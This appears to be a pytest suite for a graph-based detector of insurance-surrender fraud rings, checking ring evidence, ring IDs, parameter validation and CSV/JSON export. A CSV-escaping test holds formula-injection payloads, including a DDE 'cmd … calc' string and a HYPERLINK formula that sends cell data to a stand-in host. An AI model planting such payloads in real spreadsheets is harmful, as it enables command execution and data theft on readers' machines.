"""Detection on hand-built books with known answers, and its invariants."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from pathlib import Path

import pytest

from detectors.export import export_rings
from detectors.params import PARAM_BOUNDS, DetectionParams
from detectors.pipeline import detect
from detectors.ring_ids import carry_forward, ring_id_for
from graph.cases import Case, Realert
from graph.errors import DetectionError
from graph.model import Label, NodeRef
from graph.results import ALERT_THRESHOLD, CaseStatus, DetectionResult, Ring
from graph.sqlite_store import SQLiteStore
from tests.detect_books import RING_CLAIMS, trap_book


@pytest.fixture
def trap_store(tmp_path: Path) -> SQLiteStore:
    store = SQLiteStore(tmp_path / "g.db")
    store.load(trap_book().bundle())
    return store


@pytest.fixture
def trap_result(trap_store: SQLiteStore) -> DetectionResult:
    return detect(trap_store, DetectionParams(seed=7))


def _alerted(result: DetectionResult) -> list[Ring]:
    return [r for r in result.rings if r.score >= ALERT_THRESHOLD]


def test_the_ring_is_found_whole_with_its_stealth_member(trap_result: DetectionResult) -> None:
    alerted = _alerted(trap_result)
    assert [r.claim_ids for r in alerted] == [RING_CLAIMS]
    assert alerted[0].level == "high"


def test_benign_look_alikes_do_not_alert(trap_result: DetectionResult) -> None:
    in_rings = {c for r in trap_result.rings for c in r.claim_ids}
    for benign in ("HC1", "HC2", "HC3", "LC0", "LC7", "GC0", "GC5", "HONC"):
        assert benign not in in_rings
    risks = {c.claim_id: c.risk for c in trap_result.claim_risks}
    assert max(v for k, v in risks.items() if k not in RING_CLAIMS) < ALERT_THRESHOLD
    assert min(risks[c] for c in RING_CLAIMS) >= ALERT_THRESHOLD


def test_evidence_names_the_concrete_identifiers(trap_result: DetectionResult) -> None:
    ring = _alerted(trap_result)[0]
    codes = {e.code for e in ring.evidence}
    assert {"shared_payout_account", "complaint_template", "watchlist", "ex_agent_book",
            "changed_before_surrender", "third_party_payout"} <= codes
    payout = next(e for e in ring.evidence if e.code == "shared_payout_account")
    assert payout.data["value"] == "6222000000000000001"
    assert "赣州信诚法律咨询服务有限公司" in payout.en and "赣州信诚法律咨询服务有限公司" in payout.zh
    assert payout.data["count"] == 3
    mailed = next(e for e in ring.evidence if e.code == "shared_mailing_address")
    assert mailed.en == ("赣州市章贡区文清路88号信诚大厦1205室 links 5 unrelated households of the "
                         "ring (complaint mailing address of 5 claims)")
    assert mailed.zh == "赣州市章贡区文清路88号信诚大厦1205室 关联本团伙 5 个不相关家庭（5 笔退保的投诉邮寄地址）"
    template = next(e for e in ring.evidence if e.code == "complaint_template")
    assert "R6" in template.data["claims"]
    listed = next(e for e in ring.evidence if e.code == "watchlist")
    assert listed.en == "1 linked identifier is on the watchlist (信诚法律咨询)"
    assert ("bank_account", "6222000000000000001") in {(i.type, i.value) for i in ring.identifiers}
    assert ring.first_request_date == "2024-04-02" and ring.last_request_date == "2024-04-12"


def test_identifier_profiles_tell_benign_from_suspicious(trap_store: SQLiteStore,
                                                          trap_result: DetectionResult) -> None:
    profiles = trap_store.identifier_profiles([
        NodeRef(Label.PHONE, "+867358000000"), NodeRef(Label.PHONE, "+8613900000001"),
        NodeRef(Label.PHONE, "+8613500000055"), NodeRef(Label.PHONE, "+8617700000001"),
        NodeRef(Label.BANK_ACCOUNT, "6222000000000000001"),
    ])
    hub = profiles[NodeRef(Label.PHONE, "+867358000000")]
    assert hub.suspicion == 0 and "hub" in hub.notes and hub.customers == 60
    habit = profiles[NodeRef(Label.PHONE, "+8613900000001")]
    assert habit.suspicion < 0.2 and "agent_phone" in habit.notes
    household = profiles[NodeRef(Label.PHONE, "+8613500000055")]
    assert household.suspicion == 0 and "household" in household.notes
    agency = profiles[NodeRef(Label.PHONE, "+8617700000001")]
    assert agency.suspicion > 0.7 and "changed_before_surrender" in agency.notes
    ring_id = _alerted(trap_result)[0].ring_id
    assert agency.ring_id == ring_id
    account = profiles[NodeRef(Label.BANK_ACCOUNT, "6222000000000000001")]
    assert {"watchlist", "third_party_payout", "company_payout"} <= set(account.notes)
    assert account.ring_id == ring_id


def test_results_and_run_are_recorded(trap_store: SQLiteStore, trap_result: DetectionResult) -> None:
    run = trap_store.current_run()
    assert run is not None and run.run_id == trap_result.run.run_id
    assert run.status == "succeeded" and run.finished_at
    assert run.params["seed"] == 7
    assert run.input_fingerprint == trap_store.data_fingerprint()
    assert run.summary["alerted_rings"] == 1 and run.summary["claims"] == len(trap_result.claim_risks)
    assert [r.ring_id for r in trap_store.rings()] == [r.ring_id for r in trap_result.rings]


def test_same_input_and_seed_give_the_same_rings(trap_store: SQLiteStore,
                                                  trap_result: DetectionResult) -> None:
    again = detect(trap_store, DetectionParams(seed=7))
    assert [r.to_export() for r in again.rings] == [r.to_export() for r in trap_result.rings]
    assert again.claim_risks == trap_result.claim_risks


def test_invariants(trap_result: DetectionResult) -> None:
    seen: set[str] = set()
    for ring in trap_result.rings:
        assert 0.0 <= ring.score <= 1.0 and len(ring.claim_ids) >= 2
        assert not seen & set(ring.claim_ids)
        seen |= set(ring.claim_ids)
        assert list(ring.claim_ids) == sorted(ring.claim_ids)
    assert all(0.0 <= c.risk <= 1.0 for c in trap_result.claim_risks)
    ring_of = {c: r.ring_id for r in trap_result.rings for c in r.claim_ids}
    assert all(c.ring_id == ring_of.get(c.claim_id) for c in trap_result.claim_risks)


def test_ring_ids_survive_a_rerun_with_a_changed_ring(trap_store: SQLiteStore,
                                                      trap_result: DetectionResult) -> None:
    old_id = _alerted(trap_result)[0].ring_id
    assert old_id == ring_id_for(RING_CLAIMS)
    trap_store.change_case(old_id, "investigating", "analyst")
    extra = trap_book()
    extra.customer("RC7", "何明7", "赣州市章贡区红旗大道7号")
    extra.claim("R7", "RC7", "A-EX", "2024-04-15", full_refund=True, complaint_reason=True,
                contact="+8617700000001", account="6222000000000000001", account_name="赣州信诚法律咨询服务有限公司")
    trap_store.load(extra.bundle("hand-built-2"))
    rerun = detect(trap_store, DetectionParams(seed=7))
    ring = _alerted(rerun)[0]
    assert "R7" in ring.claim_ids and ring.ring_id == old_id
    assert trap_store.case_status(old_id) == "investigating"


def test_carry_forward_is_one_to_one() -> None:
    old = [Ring("R-A", 0.9, "high", ("1", "2", "3", "4"))]
    new = [Ring("R-X", 0.9, "high", ("1", "2", "3")), Ring("R-Y", 0.8, "high", ("1", "2", "3", "4", "5"))]
    out = carry_forward(new, old)
    assert [r.ring_id for r in out] == ["R-X", "R-A"]  # Jaccard 0.8 beats 0.75
    assert [r.ring_id for r in carry_forward(new, [])] == ["R-X", "R-Y"]
    with pytest.raises(ValueError, match="min_jaccard"):
        carry_forward(new, old, min_jaccard=0)


def test_export_contract(trap_result: DetectionResult) -> None:
    rings = [*trap_result.rings, Ring("R-SOLO", 0.99, "high", ("X1",))]
    data = json.loads(export_rings(rings, "json"))
    assert [r["ring_id"] for r in data] == [r.ring_id for r in trap_result.rings]
    assert set(data[0]) == {"ring_id", "score", "level", "claim_ids", "customer_ids", "agent_ids",
                            "identifiers", "evidence", "first_request_date", "last_request_date",
                            "case"}
    assert data[0]["case"]["status"] == "new" and data[0]["case"]["realert"] is None
    assert all(set(e) == {"code", "zh", "en", "data"} for e in data[0]["evidence"])
    scores = [r["score"] for r in data]
    assert scores == sorted(scores, reverse=True)
    rows = list(csv.DictReader(io.StringIO(export_rings(rings, "csv"))))
    assert [r["ring_id"] for r in rows] == [r["ring_id"] for r in data]
    assert rows[0]["claim_ids"] == ";".join(RING_CLAIMS)
    with pytest.raises(ValueError, match="format"):
        export_rings(rings, "xml")  # type: ignore[arg-type]


def test_csv_cells_never_start_a_formula() -> None:
    ring = Ring("=HYPERLINK(1)", 0.6, "medium", ("+C1", "C2"), customer_ids=("@U1",), agent_ids=("-A1",))
    case = Case(ring.ring_id, CaseStatus.CONFIRMED, "张伟", "=cmd|' /C calc'!A0", "张伟", "",
                "", Realert("2025-02-01", ("run-2",), ("-C7",)))
    row = next(csv.DictReader(io.StringIO(export_rings([ring], "csv", {ring.ring_id: case}))))
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@"))
    assert row["ring_id"] == "'=HYPERLINK(1)" and row["last_note"] == "'=cmd|' /C calc'!A0"
    assert (row["case_status"], row["assignee"], row["realerted"], row["realert_new_claim_ids"]) == (
        "confirmed", "张伟", "true", "'-C7")


@pytest.mark.parametrize("note", [
    "\r=1+1", '\r=HYPERLINK("http://x.example/?"&A2,"open")', "\t=1+1", "\r\n=1+1", "ok\r=1+1",
    "ok\n@SUM(1,2)", "第一行\r\n=1+1",
])
def test_a_note_with_line_breaks_or_a_tab_stays_one_cell_of_its_row(note: str) -> None:
    """A note sent over the API may start with a carriage return or a tab: the CSV export keeps
    it in its own cell (quoted), and no cell of any row starts a formula."""
    rings = [Ring("R-1", 0.9, "high", ("C1", "C2")), Ring("R-2", 0.8, "high", ("C3", "C4"))]
    case = Case("R-1", CaseStatus.INVESTIGATING, "张伟", note, "张伟", "")
    text = export_rings(rings, "csv", {"R-1": case})
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [r[0] for r in rows] == ["ring_id", "R-1", "R-2"]
    assert {len(r) for r in rows} == {16}
    last_note = rows[1][13]
    assert last_note == ("'" + note if note[0] in "\t\r" else note)
    assert not [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_empty_store_fails_the_run_and_keeps_results(tmp_path: Path) -> None:
    store = SQLiteStore(tmp_path / "empty.db")
    with pytest.raises(DetectionError, match="no surrender claims"):
        detect(store)
    assert store.runs()[0].status == "failed" and "no surrender claims" in store.runs()[0].summary["error"]
    assert store.current_run() is None


@pytest.mark.parametrize("bad", [
    {"seed": -1}, {"resolution": 0.0}, {"method": "spectral"}, {"hub_customers": 1},
    {"template_threshold": 1.5}, {"min_edge_weight": 1.0}, {"change_window_days": 0},
    {"resolution": 1e308}, {"resolution": float("nan")}, {"seed": 2**40}, {"seed": 1.0},
    {"split_components": 1}, {"template_window_days": 10**9}, {"hub_customers": True},
])
def test_invalid_params_are_rejected(bad: dict[str, object]) -> None:
    name = next(iter(bad))
    with pytest.raises(ValueError, match=f"^{name} must be"):
        DetectionParams(**bad)  # type: ignore[arg-type]


def test_every_numeric_param_has_both_bounds_and_they_hold_exactly() -> None:
    defaults = DetectionParams()
    numeric = [f.name for f in dataclasses.fields(DetectionParams)
               if type(getattr(defaults, f.name)) in (int, float)]
    assert sorted(PARAM_BOUNDS) == sorted(numeric)
    for name, limits in PARAM_BOUNDS.items():
        assert len({"ge", "gt"} & set(limits)) == 1 and len({"le", "lt"} & set(limits)) == 1, name
        step = 1 if isinstance(getattr(defaults, name), int) else 1e-6
        for limit, bound in limits.items():
            below = limit in ("ge", "gt")
            beyond = bound - step if limit == "ge" else bound + step if limit == "le" else bound
            with pytest.raises(ValueError, match=f"^{name} must be"):
                DetectionParams(**{name: beyond})  # type: ignore[arg-type]
            if limit in ("ge", "le"):
                assert getattr(DetectionParams(**{name: bound}), name) == bound  # type: ignore[arg-type]
            inside = bound + step if below else bound - step
            assert getattr(DetectionParams(**{name: inside}), name) == inside  # type: ignore[arg-type]


def test_a_run_finding_no_rings_keeps_the_current_ones_unless_allowed(trap_store: SQLiteStore) -> None:
    first = detect(trap_store, DetectionParams(seed=7))
    current = trap_store.rings()
    assert current
    nothing = DetectionParams(seed=7, min_ring_claims=10_000)  # no ring is that large
    with pytest.raises(DetectionError, match=f"found no rings and would replace the {len(current)} current"):
        detect(trap_store, nothing)
    assert trap_store.rings() == current
    refused = trap_store.runs()[0]
    assert refused.status == "failed" and "found no rings" in refused.summary["error"]
    assert trap_store.current_run().run_id == first.run.run_id  # type: ignore[union-attr]
    emptied = detect(trap_store, nothing, allow_empty=True)
    assert emptied.rings == [] and trap_store.rings() == []
    assert detect(trap_store, nothing).rings == []  # nothing to lose: no refusal


def test_params_must_be_detection_params(trap_store: SQLiteStore) -> None:
    with pytest.raises(DetectionError, match="DetectionParams"):
        detect(trap_store, {"seed": 1})  # type: ignore[arg-type]


@pytest.mark.parametrize("method", ["louvain", "igraph-multilevel", "igraph-leiden"])
def test_every_community_method_finds_the_ring(trap_store: SQLiteStore, method: str) -> None:
    result = detect(trap_store, DetectionParams(method=method))  # type: ignore[arg-type]
    assert [r.claim_ids for r in _alerted(result)] == [RING_CLAIMS]


@pytest.mark.parametrize("threshold", [0.3, 0.45, 0.5, 0.7, 0.9])
def test_lsh_bands_keep_template_pairs_at_the_threshold(threshold: float) -> None:
    from detectors.templates import band_params

    bands, rows = band_params(threshold, 48)
    assert bands * rows <= 48
    assert 1.0 - (1.0 - threshold**rows) ** bands >= 0.95


def test_a_float_param_asks_for_a_finite_number() -> None:
    """nan is a float to Python, not to a person: the message says what is wanted."""
    with pytest.raises(ValueError, match=r"^resolution must be a finite number, got nan$"):
        DetectionParams(resolution=float("nan"))
